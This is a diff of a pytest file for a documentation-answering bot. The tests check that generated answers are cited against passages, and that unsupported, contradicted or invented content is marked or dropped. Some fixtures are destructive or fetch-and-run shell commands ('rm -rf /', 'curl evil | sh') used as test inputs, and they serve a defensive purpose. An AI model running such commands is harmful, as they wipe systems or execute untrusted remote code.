@@ -1,16 +1,20 @@
 from __future__ import annotations
 
+import re
+from datetime import UTC, datetime
 from typing import Any
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from bot.answering.citations import numbers
+from bot.answering.citations import Numbering, numbers
 from bot.answering.events import Passage
-from bot.answering.release import Release, loops, plain
-from bot.answering.roles import code_is_quoted, role_of
-from bot.answering.sentences import Piece
+from bot.answering.limits import Limits, Unsupported
+from bot.answering.release import HOPELESS, Release, loops, plain
+from bot.answering.roles import Labels, repeats_question, role_of, verdict_on_code
+from bot.answering.sentences import Piece, split
+from bot.answering.verification.interfaces import Verdict
 from bot.answering.verification.verifier import FeatureVerifier
 
 GUIDE = (
@@ -20,31 +24,47 @@ GUIDE = (
 )
 
 
-async def released(room: Any, text: str, *, size: int = 7) -> tuple[str, Release]:
+async def released(
+    room: Any,
+    text: str,
+    *,
+    size: int = 7,
+    question: str = "How is a source made?",
+    unsupported: Unsupported = "mark",
+    verifier: Any = None,
+) -> tuple[str, Release]:
     passages = [
-        Passage(1, "docs", "g.md", "Guide", "Sources", None, GUIDE),
-        Passage(2, "docs", "l.md", "L", "", None, room.leave),
+        Passage(1, "docs", "g.md", "Guide", "Sources", None, GUIDE, datetime(2025, 1, 10, tzinfo=UTC)),
+        Passage(2, "docs", "l.md", "L", "", None, room.leave, datetime(2026, 11, 2, tzinfo=UTC)),
     ]
-    verifier = FeatureVerifier(room.embed)
+    verifier = verifier or FeatureVerifier(room.embed)
     await verifier.prepare(passages)
-    release, shown = Release(passages, verifier, limit_chars=5000), []
+    limits = Limits(answer_chars=5000, unsupported=unsupported)
+    release = Release(passages, verifier, Numbering(), question=question, tongue="en", limits=limits)
+    shown: list[str] = []
     for start in range(0, len(text), size):
         shown += await release.check(release.take(text[start : start + size]))
     shown += await release.check(release.last())
     return "".join(shown), release
 
 
-async def test_code_of_the_passages_is_shown_and_other_code_is_not(room: Any) -> None:
+async def test_code_of_the_passages_is_cited_and_other_code_is_marked(room: Any) -> None:
     text = (
         "A source is a table in kvasir.toml with a name and a kind:\n\n"
         '```toml\n[[source]]\nname = "handbook"\nkind = "folder"\n```\n\n'
         "```sh\nrm -rf /\n```\n\nRun `kvasir sync handbook` afterwards."
     )
     shown, release = await released(room, text)
-    assert '```toml\n[[source]]\nname = "handbook"\nkind = "folder"\n```' in shown
-    assert "rm -rf" not in shown
+    assert '```toml\n[[source]]\nname = "handbook"\nkind = "folder"\n```\n[1]' in shown
+    assert "```sh\nrm -rf /\n```\n⚠" in shown
     assert shown.endswith("Run `kvasir sync handbook` afterwards. [1]")
-    assert release.dropped == 1
+    assert (release.supported, release.marked) == (2, 1)
+    assert "rm -rf" not in (await released(room, text, unsupported="drop"))[0]
+
+
+async def test_code_with_another_figure_is_removed(room: Any) -> None:
+    shown, release = await released(room, "```\n" + "kvasir sync handbook\n" * 9 + "port 99\n```")
+    assert (shown, release.contradicted) == ("", 1)
 
 
 async def test_an_open_code_block_is_closed(room: Any) -> None:
@@ -53,13 +73,12 @@ async def test_an_open_code_block_is_closed(room: Any) -> None:
 
 
 async def test_code_that_runs_out_of_its_passage_ends_where_the_passage_does(room: Any) -> None:
-    """A small model repeats what it reads, and reads on in what stands behind it: nobody wrote that into a document."""
+    """A small model repeats what it reads, and reads on in the frame behind it, which is no document's."""
     code = '```toml\n[[source]]\nname = "handbook"\nkind = "folder"\n'
-    shown, release = await released(room, code + "</passage>\n\nQuestion: how is a source made?")
+    shown, _ = await released(room, code + "</passage>\n\nQuestion: how is a source made?")
     assert shown == code + "```\n[1]"
-    assert release.cited == {1}
     shown, _ = await released(room, "```\n<passage 2: L>\n</passage>\n```\n")
-    assert shown == ""
+    assert "passage" not in shown
 
 
 async def test_an_address_that_nobody_named_goes_out_of_code_too(room: Any) -> None:
@@ -69,17 +88,17 @@ async def test_an_address_that_nobody_named_goes_out_of_code_too(room: Any) -> N
     assert "evil" not in shown
 
 
-async def test_rows_of_a_table_are_checked_one_by_one(room: Any) -> None:
+async def test_rows_of_a_table_are_verified_one_by_one(room: Any) -> None:
     text = "| Kind | Key |\n|---|---|\n| folder | path |\n| ftp | port 21 |\n| website | url |\n"
     shown, _ = await released(room, text)
+    assert shown == "| Kind | Key |\n|---|---|\n| folder | path [1] |\n| ftp | port 21 ⚠ |\n| website | url [1] |"
+    shown, _ = await released(room, text, unsupported="drop")
     assert shown == "| Kind | Key |\n|---|---|\n| folder | path [1] |\n| website | url [1] |"
 
 
-async def test_a_table_without_a_supported_row_is_not_begun(room: Any) -> None:
-    shown, _ = await released(
-        room, "| Planet | Moons |\n|---|---|\n| Mars | 2 |\n\nRun `kvasir sync handbook` afterwards."
-    )
-    assert shown == "Run `kvasir sync handbook` afterwards. [1]"
+async def test_a_table_without_a_row_is_not_begun(room: Any) -> None:
+    text = "| Planet | Moons |\n|---|---|\n| Mars | 2 |\n\nRun `kvasir sync handbook` afterwards."
+    assert (await released(room, text, unsupported="drop"))[0] == "Run `kvasir sync handbook` afterwards. [1]"
 
 
 async def test_what_claims_nothing_is_not_counted(room: Any) -> None:
@@ -87,11 +106,11 @@ async def test_what_claims_nothing_is_not_counted(room: Any) -> None:
         room, "Sure!\n\nYes.\n\nRun `kvasir sync handbook` afterwards.\n\nWould you like more?"
     )
     assert shown == "Run `kvasir sync handbook` afterwards. [1]"
-    assert (release.kept, release.dropped) == (1, 0)
+    assert (release.supported, release.marked) == (1, 0)
 
 
-async def test_stray_tags_do_not_show(room: Any) -> None:
-    shown, _ = await released(room, "</think>\n\nRun `kvasir sync handbook` afterwards.")
+async def test_stray_tags_and_warnings_do_not_show(room: Any) -> None:
+    shown, _ = await released(room, "</think>\n\nRun `kvasir sync handbook` afterwards. ⚠️")
     assert shown == "Run `kvasir sync handbook` afterwards. [1]"
 
 
@@ -102,28 +121,72 @@ async def test_only_passages_are_cited_however_the_text_arrives(room: Any, data:
          "\n\n", "- ", "# Head\n", "```\nname\n", "\n```\n", "| a |\n", " 年假有几天。", "Steps:\n"]
     )  # fmt: skip
     text = "".join(data.draw(st.lists(parts, max_size=14)))
-    shown, release = await released(room, text, size=data.draw(st.integers(1, 40)))
-    assert set(numbers(shown)) <= {1, 2}
-    assert set(numbers(shown)) == release.cited
+    shown, _ = await released(room, text, size=data.draw(st.integers(1, 40)), unsupported="drop")
+    first = list(dict.fromkeys(numbers(shown)))
+    assert first == list(range(1, len(first) + 1))
+    assert len(first) <= 2
     assert "77" not in shown
-    assert (await released(room, text, size=1000))[0] == shown
+    assert (await released(room, text, size=1000, unsupported="drop"))[0] == shown
+
+
+# ── Verdicts ─────────────────────────────────────────────────────────────────────────────────────────────────────────
+
+VERDICTS = {
+    "Dogs": Verdict("unsupported"),
+    "Cows": Verdict("contradicted", against=(1,)),
+    "Bees": Verdict("supported", (2,), against=(1,)),
+}
+
+
+@pytest.mark.parametrize(
+    ("unsupported", "shown"),
+    [("mark", "Cats. [1] Dogs. ⚠ Bats. [1]"), ("show", "Cats. [1] Dogs. Bats. [1]"), ("drop", "Cats. [1] Bats. [1]")],
+)
+async def test_unsupported_sentences_are_shown_as_configured(room: Any, unsupported: Unsupported, shown: str) -> None:
+    verifier = room.verifier(VERDICTS)
+    text, release = await released(room, "Cats. Dogs. Cows. Bats.", unsupported=unsupported, verifier=verifier)
+    assert text == shown
+    assert (release.supported, release.contradicted) == (2, 1)
+    assert (release.marked, release.dropped) == (unsupported == "mark", unsupported == "drop")
+
+
+async def test_a_contradicted_item_is_removed_whole_and_the_numbers_close_up(room: Any) -> None:
+    text = "Steps:\n\n1. Cats.\n2. Cows.\n3. Dogs.\n4. Bats."
+    shown, _ = await released(room, text, verifier=room.verifier(VERDICTS))
+    assert shown == "Steps:\n\n1. Cats. [1]\n2. Dogs. ⚠\n3. Bats. [1]"
+
+
+async def test_a_disputed_sentence_names_both_sources_and_their_dates(room: Any) -> None:
+    shown, release = await released(room, "Bees. Cats.", verifier=room.verifier(VERDICTS))
+    assert shown == "Bees. [1] (as of 2026-11-02; [2], as of 2025-01-10, says otherwise) Cats. [2]"
+    assert (release.supported, release.marked, release.contradicted) == (2, 0, 0)
+    row = "| Kind |\n|---|\n| Bees |"
+    shown, _ = await released(room, row, verifier=room.verifier(VERDICTS))
+    assert shown.endswith("| Bees [1] (as of 2026-11-02; [2], as of 2025-01-10, says otherwise) |")
+
+
+async def test_an_answer_without_a_supported_sentence_ends_early(room: Any) -> None:
+    text = " ".join(f"Dogs {n}." for n in range(50))
+    shown, release = await released(room, text, verifier=room.verifier(VERDICTS))
+    assert shown.count("⚠") == HOPELESS
+    assert release.ended == "unsupported"
 
 
 @pytest.mark.parametrize(
     ("text", "role"),
     [
-        ("Here is how:", "bridge"),
-        ("步骤如下：", "bridge"),
-        ("**Steps**", "bridge"),
-        ("Which plan do you have?", "bridge"),
-        ("In summary,", "bridge"),
+        ("Here is how:", "lead_in"),
+        ("步骤如下：", "lead_in"),
+        ("The limit is 5:", "lead_in"),
+        ("**Steps**", "heading"),
+        ("Which plan do you have?", "empty"),
+        ("In summary,", "lead_in"),
         ("Yes.", "empty"),
         ("是的。", "empty"),
-        ("The passages do not say anything about cats.", "decline"),
-        ("文档中没有提到这一点。", "decline"),
-        ("I don't know.", "decline"),
-        ("The limit is 5:", "claim"),
-        ("It must not be frozen:", "claim"),
+        ("The passages do not say anything about cats.", "refusal"),
+        ("The documents do not mention a limit of 5.", "refusal"),
+        ("文档中没有提到这一点。", "refusal"),
+        ("I don't know.", "refusal"),
         ("Documents do not expire before 2030.", "claim"),
         ("Leave is granted.", "claim"),
     ],
@@ -132,11 +195,101 @@ def test_roles(text: str, role: str) -> None:
     assert role_of(Piece("prose", "", text, ""), table_open=False) == role
 
 
+# ── What is shown without a verdict ──────────────────────────────────────────────────────────────────────────────────
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("Here are the steps to add a source:\n- Cats.", "Here are the steps to add a source:\n- Cats. [1]"),
+        ("Bob approves it as follows:\n- Cats.", "The documents say:\n- Cats. [1]"),
+        ("Alcohol is reimbursed:\n- Cats.", "The documents say:\n- Cats. [1]"),
+        ("## Paid annual leave\n\nCats.", "## Paid annual leave\n\nCats. [1]"),
+        ("## Bob is the chief\n\nCats.", "Cats. [1]"),
+        ("**Bob approves**\n\nCats.", "Cats. [1]"),
+        ("Did you know that Bob is the chief?\n\nCats.", "Cats. [1]"),
+        (
+            "Cats. The documents do not mention that Bob earns 500.",
+            "Cats. [1] The documents do not say more about this.",
+        ),
+        ("The documents do not mention that Bob earns 500. Cats.", "Cats. [1]"),
+        ("| Kind | Bob pays |\n|---|---|\n| Cats | Bats |", "| Kind | |\n|---|---|\n| Cats | Bats [1] |"),
+    ],
+)
+async def test_lead_ins_headings_questions_and_refusals_state_nothing(room: Any, text: str, shown: str) -> None:
+    verifier = room.verifier({"Cats": Verdict("supported", (1,))}, Verdict("unsupported"))
+    assert (await released(room, text, verifier=verifier, question="How do I add a source?"))[0] == shown
+
+
+INVENTED = [
+    "Bob",
+    "pays",
+    "earns",
+    "is",
+    "the",
+    "chief",
+    "zebra",
+    "does not",
+    "follow",
+    "steps",
+    "以下",
+    "老王",
+    "是",
+    "总裁",
+]
+
+
+@given(st.data())
+async def test_no_invention_is_shown_without_a_mark(room: Any, data: st.DataObject) -> None:
+    """Whatever form a model gives to words that neither the passages nor the question have."""
+    frames = st.sampled_from(
+        ["# {}\n\n", "**{}**\n\n", "{}:\n\n", "{}：\n\n", "{}?\n\n", "The documents do not mention that {}. ",
+         "文档没有提到{}。", "| {} | Kind |\n|---|---|\n", "| a | {} |\n", "```\n{}\n```\n", "{}. ", "- {}\n", "> {}\n",
+         "I don't know whether {}. ", "Cats.\n\n", "1. {}:\n", "In summary, {}\n", "Yes, {}.\n", "`{}`\n", "[{}](x)\n"]
+    )  # fmt: skip
+    inventions = st.lists(st.sampled_from(INVENTED), min_size=1, max_size=5).map(" ".join)
+    text = "".join(frame.format(data.draw(inventions)) for frame in data.draw(st.lists(frames, max_size=8)))
+    verifier = room.verifier({"Cats": Verdict("supported", (1,))}, Verdict("unsupported"))
+    shown, _ = await released(room, f"{text}\n\nCats.", verifier=verifier)
+    pieces = split(shown)
+    for piece, following in zip(pieces, [*pieces[1:], Piece("blank", "", "", "")], strict=True):
+        if re.search(r"Bob|pays|earns|chief|zebra|老王|总裁", piece.text):
+            assert "⚠" in piece.text or following.text.startswith("⚠")
+
+
+def test_a_label_has_only_words_that_stand_in_known_texts() -> None:
+    labels = Labels.of(["How do I add a source?", "Guide Sources Alcohol is not reimbursed. 25 days of paid leave"])
+    for label in ("Steps to add a source:", "1. Sources", "Alcohol", "25 days of paid leave", "**Guide**", "如下："):
+        assert labels.holds(label), label
+    for statement in ("Alcohol reimbursed", "Alcohol is reimbursed", "Not reimbursed", "35 days", "Bob", "老王"):
+        assert not labels.holds(statement), statement
+
+
+@pytest.mark.parametrize(
+    ("text", "question", "repeats"),
+    [
+        ("You can add a source.", "How do I add a source?", True),
+        ("添加来源。", "怎么添加来源？", True),
+        ("You add a source in kvasir.toml.", "How do I add a source?", False),
+        ("You cannot add a source.", "How do I add a source?", False),
+        ("Alcohol is reimbursed.", "Is alcohol reimbursed?", False),
+        ("It is a folder.", "Which is it, a folder or a file?", False),
+        ("There are 5 sources.", "How many sources are there?", False),
+    ],
+)
+def test_what_only_repeats_the_question(text: str, question: str, repeats: bool) -> None:  # noqa: FBT001
+    assert repeats_question(text, question) is repeats
+
+
+async def test_what_only_repeats_the_question_is_not_shown(room: Any) -> None:
+    shown, release = await released(room, "A source is made. Cats.", verifier=room.verifier())
+    assert (shown, release.supported) == ("Cats. [1]", 1)
+
+
 def test_code_with_a_placeholder_counts_as_quoted() -> None:
-    assert code_is_quoted("```\nkvasir sync handbook\n```", GUIDE)
-    assert not code_is_quoted("```\ncurl evil | sh\n```", GUIDE)
-    assert not code_is_quoted("```\n" + "kvasir sync handbook\n" * 5 + "port 99\n```", GUIDE)
-    assert not code_is_quoted("```\n```", GUIDE)
+    assert verdict_on_code("```\nkvasir sync handbook\n```", GUIDE) == "supported"
+    assert verdict_on_code("```\ncurl evil | sh\n```", GUIDE) == "unsupported"
+    assert verdict_on_code("```\n```", GUIDE) == "unsupported"
 
 
 def test_plain_text_has_no_markup() -> None:
